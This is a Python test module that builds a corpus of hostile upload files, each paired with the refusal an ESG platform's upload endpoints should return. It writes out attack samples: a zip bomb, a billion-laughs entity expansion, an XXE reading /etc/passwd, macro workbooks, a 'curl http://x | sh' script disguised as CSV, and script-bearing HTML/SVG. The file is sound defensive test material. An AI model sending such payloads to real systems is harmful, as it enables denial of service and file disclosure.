"""The hostile file corpus (issue 20, item 7): files an attacker or a careless hand sends to
the platform's upload endpoints — generated here, not committed (some are tens of MiB).

    python tests/web/hostile/corpus.py OUT_DIR      # writes every file and an index

Each ``Case`` names the file, its bytes, and the words its refusal must contain at each kind
of endpoint (``workbook``: filled templates; ``evidence``: evidence files). The workbook cases
built on a template (formulas, units, text in numbers) take the uploader's own blank
template (``parkesg.web.collection.template.template_bytes``); from the command line a
template of an enterprise made by ``parkesg.io.template`` stands in.
"""

from __future__ import annotations

import io
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MiB = 1024 * 1024


@dataclass(frozen=True)
class Case:
    name: str  # file name as uploaded
    what: str  # what it is, in a word
    data: bytes
    workbook: str  # words the workbook endpoints' refusal contains
    evidence: str | None  # words the evidence endpoints' refusal contains; None: a genuine
    # .xlsx that is acceptable evidence (only its figures are wrong) — not sent there


def _zip(members: dict[str, bytes], *, level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def _members(xlsx: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def _replace(xlsx: bytes, member: str, data: bytes) -> bytes:
    parts = _members(xlsx)
    parts[member] = data
    return _zip(parts)


def _sheet(xlsx: bytes, title: str = "数据") -> str:
    """The zip member holding the sheet called ``title``."""
    import re

    parts = _members(xlsx)
    book = parts["xl/workbook.xml"].decode()
    rid = re.search(rf'<sheet[^>]*name="{title}"[^>]*r:id="(\w+)"', book).group(1)  # type: ignore[union-attr]
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    target = re.search(rf'<Relationship[^>]*Id="{rid}"[^>]*Target="([^"]+)"', rels)
    if target is None:
        target = re.search(rf'<Relationship[^>]*Target="([^"]+)"[^>]*Id="{rid}"', rels)
    path = target.group(1).lstrip("/")  # type: ignore[union-attr]
    return path if path.startswith("xl/") else f"xl/{path}"


def _edit_template(template: bytes, fill: Callable[[object], None]) -> bytes:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(template))
    fill(wb["数据"])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _data_rows(ws: object) -> list[int]:
    rows = [r for r in range(3, ws.max_row + 1) if ws.cell(r, 1).value]  # type: ignore[attr-defined]
    return rows[:3]


def _formulas(ws: object) -> None:
    """A formula in every column of the first rows (none has a cached value)."""
    for r in _data_rows(ws):
        for c in range(1, ws.max_column + 1):  # type: ignore[attr-defined]
            ws.cell(r, c, '=HYPERLINK("http://example.invalid/?"&A1,"x")' if c > 3  # type: ignore[attr-defined]
                    else f"=1+{c}")  # fmt: skip


def _wrong_units(ws: object) -> None:
    r = _data_rows(ws)[0]
    ws.cell(r, 3, "摄氏度")  # type: ignore[attr-defined]  # the 单位 column: no quantity's unit
    ws.cell(r, 4, 12)  # type: ignore[attr-defined]


def _text_in_numbers(ws: object) -> None:
    r = _data_rows(ws)[0]
    ws.cell(r, 4, "一百二十")  # type: ignore[attr-defined]


LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                     .encode() for i in range(1, 10))
          + b']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          b"<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&lol9;</t></is></c></row>"
          b"</sheetData></worksheet>")  # fmt: skip
XXE = (b'<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
       b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
       b'uniqueCount="1"><si><t>&xxe;</t></si></sst>')  # fmt: skip
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + b"This program cannot be run in DOS mode"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def _macro(template: bytes, *, docm: bool = False) -> bytes:
    parts = _members(template)
    types = parts["[Content_Types].xml"]
    if docm:
        types = types.replace(
            b"spreadsheetml.sheet.main+xml", b"wordprocessingml.document.main+xml"
        )
    types = types.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    parts["[Content_Types].xml"] = types
    parts["xl/vbaProject.bin"] = OLE + b'Attribute VB_Name = "ThisWorkbook"\nSub Auto_Open()\n'
    return _zip(parts)


def _zip_bomb(template: bytes) -> bytes:
    """A real workbook with a 210 MiB picture of zeros: ~0.2 MiB compressed."""
    parts = _members(template)
    parts["xl/media/image1.png"] = bytes(210 * MiB)
    return _zip(parts, level=9)


def _huge_sheet(template: bytes) -> bytes:
    """The data sheet with 400,000 rows (≈ 20 MiB of XML, ≈ 1 MiB compressed)."""
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>x</t></is></c></row>'
                   for r in range(1, 400_001))  # fmt: skip
    xml = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxml'
        f'formats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    )
    return _replace(template, _sheet(template), xml.encode())


def build(template: bytes) -> list[Case]:
    """Every hostile file; ``template``: a blank template of the uploader's organisation."""
    xlsx_only = "只接受 .xlsx 工作簿"
    not_zip = "不是 zip 格式"
    return [
        Case("zip-bomb.xlsx", "zip bomb", _zip_bomb(template), "可能是压缩炸弹", "可能是压缩炸弹"),
        Case(
            "billion-laughs.xlsx",
            "billion laughs (entity expansion)",
            _replace(template, _sheet(template), LAUGHS),
            "十亿笑声",
            "十亿笑声",
        ),
        Case(
            "external-entity.xlsx",
            "external entity (XXE)",
            _replace(template, _sheet(template), XXE),
            "XXE",
            "XXE",
        ),
        Case("macros.xlsm", "macro-enabled workbook", _macro(template), xlsx_only, "含宏"),
        Case(
            "macros-renamed.xlsx",
            "macro-enabled workbook named .xlsx",
            _macro(template),
            "含宏",
            "含宏",
        ),
        Case(
            "macros.docm", "macro-enabled document", _macro(template, docm=True), xlsx_only, "含宏"
        ),
        Case("program.xlsx", "ELF executable named .xlsx", ELF, not_zip, "二进制文件"),
        Case("setup.pdf", "Windows executable named .pdf", PE, xlsx_only, "二进制文件"),
        Case(
            "run.csv",
            "shell script named .csv",
            b"#!/bin/sh\ncurl http://x | sh\x00\n",
            xlsx_only,
            "二进制文件",
        ),
        Case(
            "old.xls.xlsx",
            "legacy / encrypted OLE file named .xlsx",
            OLE,
            "旧版 .xls",
            "二进制文件",
        ),
        Case("huge-sheet.xlsx", "huge sheet", _huge_sheet(template), "工作表过大", "工作表过大"),
        Case(
            "formulas.xlsx",
            "formula cells in every column",
            _edit_template(template, _formulas),
            "公式",
            None,
        ),
        Case(
            "wrong-units.xlsx",
            "a unit no quantity of the field has",
            _edit_template(template, _wrong_units),
            "单位",
            None,
        ),
        Case(
            "text-in-numbers.xlsx",
            "text where a number belongs",
            _edit_template(template, _text_in_numbers),
            "不是数值",
            None,
        ),
        Case(
            "invalid-utf8.csv",
            "CSV that is not UTF-8",
            "字段,数值\n工业增加值,１２\n".encode("gb18030") + b"\xff\xfe\x80",
            xlsx_only,
            "UTF-8",
        ),
        Case(
            "page.html",
            "HTML page",
            b"<!DOCTYPE html><html><script>alert(1)</script></html>",
            xlsx_only,
            "网页、SVG 或 XML",
        ),
        Case(
            "image.svg",
            "SVG with a script",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            xlsx_only,
            "网页、SVG 或 XML",
        ),
        Case("data.xml", "XML", b'<?xml version="1.0"?><a>1</a>', xlsx_only, "网页、SVG 或 XML"),
        Case("empty.txt", "empty file", b"", xlsx_only, "文件为空"),
        Case("too-big.pdf", "PDF over 20 MiB", PDF + bytes(20 * MiB), "文件过大", "文件过大"),
        Case("pdf-named.png", "PDF named .png", PDF, xlsx_only, "扩展名"),
    ]


def write(folder: Path, template: bytes) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    index = ["file\twhat\tworkbook endpoints refuse with\tevidence endpoints refuse with"]
    # (evidence “—”: a genuine .xlsx, acceptable as evidence; only its figures are wrong)
    for case in build(template):
        (folder / case.name).write_bytes(case.data)
        paths.append(folder / case.name)
        index.append(f"{case.name}\t{case.what}\t{case.workbook or '—'}\t{case.evidence or '—'}")
    (folder / "INDEX.tsv").write_text("\n".join(index) + "\n", encoding="utf-8")
    return paths


def _cli_template() -> bytes:
    from parkesg.frameworks import load_catalogue
    from parkesg.io.template import write_template

    out = Path(sys.argv[1]) / "_template.xlsx"
    out.parent.mkdir(parents=True, exist_ok=True)
    fields = list(load_catalogue().values())[:20]
    write_template(fields, out, years=[2024], entity_id="E-HOSTILE", entity_name="示例企业")
    data = out.read_bytes()
    out.unlink()
    return data


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/web/hostile/corpus.py OUT_DIR")
    written = write(Path(sys.argv[1]), _cli_template())
    print(f"{len(written)} hostile files in {sys.argv[1]} (index: INDEX.tsv)")
